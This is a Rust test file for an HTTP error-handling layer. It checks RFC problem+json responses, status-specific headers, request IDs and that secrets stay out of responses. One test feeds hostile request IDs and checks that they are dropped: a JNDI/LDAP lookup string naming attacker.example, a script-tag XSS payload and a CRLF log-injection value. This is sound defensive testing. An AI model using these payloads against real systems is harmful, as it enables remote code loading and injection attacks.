//! Functions that answer requests, behind the layer.

use crate::functions::DSN;
use crate::gateway::{FIRST_ID, Posted, get, invoke, request};
use secure_error_tests_frameworks::headers;
use serde_json::Value;

fn shop(path: &str) -> (Posted, Value) {
    invoke("shop", &[get(path)]).one()
}

#[track_caller]
fn assert_golden(path: &str, status: u16, body: &str) -> (Posted, Value) {
    let (posted, record) = shop(path);
    assert_eq!(posted.to, "response");
    assert_eq!(posted.json["statusCode"], status);
    assert_eq!(posted.body(), body.replace("\"ID\"", &format!("\"{FIRST_ID}\"")));
    assert_eq!(posted.header("content-type"), Some("application/problem+json"));
    assert_eq!(posted.header("cache-control"), Some("no-store"));
    assert_eq!(posted.header("x-content-type-options"), Some("nosniff"));
    assert_eq!(posted.header("x-request-id"), Some(FIRST_ID));
    assert_eq!(record["request_id"], FIRST_ID);
    (posted, record)
}

#[test]
fn without_the_library_an_error_and_a_panic_are_told_to_the_invoker() {
    let invoked = invoke("open tutorial", &[get("/error"), get("/panic")]);
    for posted in &invoked.posted {
        assert_eq!(posted.to, "error");
        assert!(posted.text.contains(DSN), "{posted:?}");
    }
}

#[test]
fn an_error_of_another_crate_is_a_500_and_a_panic_too() {
    for path in ["/error", "/panic"] {
        let (posted, record) = invoke("tutorial", &[get(path)]).one();
        assert_eq!(posted.to, "response");
        assert_eq!(posted.problem()["code"], "INTERNAL_ERROR");
        assert!(!posted.text.contains("hunter2"), "{posted:?}");
        assert!(record.to_string().contains(DSN), "{record}");
        assert_eq!(record["request_id"], posted.problem()["request_id"]);
    }
}

#[test]
fn a_boxed_error_of_ours_is_logged_with_all_that_it_knows() {
    let (posted, record) = invoke("tutorial", &[get("/ours")]).one();
    assert_eq!(posted.problem()["status"], 500);
    assert!(record.to_string().contains("no row in items_v2"), "{record}");
}

#[test]
fn a_constant_answer_is_the_same_bytes_as_in_every_framework() {
    let (_, record) = assert_golden(
        "/constant",
        404,
        r#"{"type":"about:blank","title":"Not Found","status":404,"detail":"No such item","code":"NO_ITEM","request_id":"ID"}"#,
    );
    assert_eq!(record["exception.message"], "no row in items_v2");
    assert_eq!(
        (&record["http.request.method"], &record["url.path"]),
        (&"GET".into(), &"/constant".into())
    );
}

#[test]
fn parameters_are_members_and_internal_fields_are_not() {
    let (_, record) = assert_golden(
        "/parameter",
        409,
        r#"{"type":"about:blank","title":"Conflict","status":409,"detail":"Only 3 are left","code":"OUT_OF_STOCK","request_id":"ID","left":3}"#,
    );
    assert!(record["fields"].as_str().unwrap().contains("shelf-7f3a"));
}

#[test]
fn violations_and_transparent_errors_are_what_they_are_everywhere() {
    assert_golden(
        "/invalid",
        422,
        r#"{"type":"about:blank","title":"Unprocessable Content","status":422,"detail":"Invalid order","code":"INVALID","request_id":"ID","errors":[{"pointer":"/name","code":"TOO_SHORT","detail":"Too short"}]}"#,
    );
    assert_golden(
        "/transparent",
        402,
        r#"{"type":"about:blank","title":"Payment Required","status":402,"detail":"The card was refused","code":"CARD_REFUSED","request_id":"ID"}"#,
    );
}

#[test]
fn a_401_has_its_challenge_a_405_its_methods_and_a_429_its_time() {
    for (path, status, name, value) in [
        ("/unauthorized", 401, "www-authenticate", "Bearer realm=\"api\""),
        ("/read_only", 405, "allow", "GET, HEAD"),
        ("/slow_down", 429, "retry-after", "30"),
    ] {
        let (posted, _) = shop(path);
        assert_eq!(posted.json["statusCode"], status);
        assert_eq!(posted.header(name), Some(value), "{posted:?}");
    }
}

#[test]
fn headers_stay_on_the_statuses_that_give_them_a_meaning() {
    let requests: Vec<_> = headers::requests().collect();
    let events = requests
        .iter()
        .map(|(how, status, _)| get(&format!("/headers/{how}/{status}")));
    let invoked = invoke("shop", &events.collect::<Vec<_>>());
    assert_eq!(invoked.records().len(), requests.len());
    for ((how, status, own), posted) in requests.into_iter().zip(&invoked.posted) {
        assert_eq!(posted.json["statusCode"], status);
        let checked = headers::check(status, own, |name| posted.all(name));
        assert_eq!(checked, Ok(()), "{how}: {posted:?}");
    }
}

#[test]
fn what_nobody_decided_is_a_500() {
    let (posted, record) = assert_golden(
        "/undecided",
        500,
        r#"{"type":"about:blank","title":"Internal Server Error","status":500,"detail":"An internal error occurred","code":"INTERNAL_ERROR","request_id":"ID"}"#,
    );
    assert!(!posted.text.contains("hunter2"));
    assert!(record.to_string().contains(DSN), "{record}");
}

#[test]
fn an_error_that_a_handler_writes_by_itself_is_sealed() {
    let (posted, record) = shop("/text");
    assert_eq!(posted.problem()["status"], 502);
    assert!(!posted.text.contains("hunter2"));
    assert!(record.to_string().contains(DSN), "{record}");
}

#[test]
fn a_panic_before_there_is_a_future_is_a_500() {
    let (posted, record) = invoke("panics before", &[get("/")]).one();
    assert_eq!(posted.problem()["status"], 500);
    assert!(record.to_string().contains(&format!("not ready: {DSN}")), "{record}");
}

#[test]
fn a_diagnostic_keeps_its_response_and_no_other_error_gets_it() {
    let (posted, _) = invoke("diagnosed", &[get("/same")]).one();
    assert_eq!(posted.problem()["code"], "NO_ITEM");
    let invoked = invoke("diagnosed", &[get("/other")]);
    assert_eq!(invoked.posted[0].problem()["code"], "INTERNAL_ERROR");
    assert!(!invoked.posted[0].text.contains("hunter2"));
    assert!(invoked.log.contains(DSN), "{}", invoked.log);
}

#[test]
fn what_is_no_error_passes_with_its_id_and_is_not_logged() {
    let invoked = invoke("shop", &[get("/ok"), get("/id")]);
    assert_eq!(invoked.records(), Vec::<Value>::new());
    let [fine, named] = &invoked.posted[..] else {
        panic!("two answers");
    };
    assert_eq!((fine.body(), fine.header("x-request-id")), ("fine", Some(FIRST_ID)));
    assert_eq!(Some(named.body()), named.header("x-request-id"));
}

#[test]
fn an_answer_to_head_has_no_body() {
    let (posted, _) = invoke("shop", &[request("HEAD", "/constant", &[])]).one();
    assert_eq!((&posted.json["statusCode"], posted.body()), (&404.into(), ""));
}

#[test]
fn an_id_of_the_client_counts_only_if_it_is_trusted() {
    let named = || [request("GET", "/constant", &[("x-request-id", "client-1")])];
    let (posted, record) = invoke("shop", &named()).one();
    assert!(!posted.text.contains("client-1"));
    assert_eq!(record["client_request_id"], "client-1");
    let (posted, record) = invoke("shop that trusts", &named()).one();
    assert_eq!(posted.header("x-request-id"), Some("client-1"));
    assert_eq!(record["request_id"], "client-1");
}

#[test]
fn a_hostile_id_is_dropped() {
    for hostile in [
        "${jndi:ldap://attacker.example/x}",
        "<script>alert(1)</script>",
        "a%0d%0aERROR",
    ] {
        let (posted, record) = invoke(
            "shop that trusts",
            &[request("GET", "/constant", &[("x-request-id", hostile)])],
        )
        .one();
        assert_eq!(posted.header("x-request-id"), Some(FIRST_ID));
        assert_eq!(record["client_request_id"], Value::Null);
        assert!(!posted.text.contains(hostile));
    }
}

#[test]
fn a_page_for_browsers_is_text_and_not_base64() {
    let accept = [("accept", "text/html")];
    let (posted, _) = invoke("shop in pages", &[request("GET", "/constant", &accept)]).one();
    assert_eq!(posted.header("content-type"), Some("text/html; charset=utf-8"));
    assert!(posted.body().contains("No such item"));
}
